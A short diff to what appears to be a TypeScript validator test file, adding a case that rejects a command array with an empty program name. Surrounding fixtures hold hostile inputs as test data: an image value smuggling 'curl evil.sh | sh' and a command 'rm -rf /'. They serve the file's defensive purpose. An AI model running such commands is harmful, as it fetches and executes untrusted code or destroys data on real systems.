@@ -29,6 +29,7 @@ const BAD_APPS: [string, Record<string, unknown>, string][] = [
   ['a port out of range', { port: 70000 }, 'port'],
   ['an image with a shell string', { image: 'web; curl evil.sh | sh' }, 'OCI image reference'],
   ['a command that is a string', { command: 'sh -c "rm -rf /"' }, 'command: must be an array'],
+  ['a command without a program', { command: ['', '-c', 'true'] }, 'command.0: must name a program first'],
   ['replicas outside scaling', { replicas: 5, scaling: { min: 1, max: 2 } }, 'scaling.min..max'],
   ['a bad cron', { scaling: { min: 1, max: 2, schedules: [{ cron: 'every day', min: 1, max: 1 }] } }, 'cron'],
   [
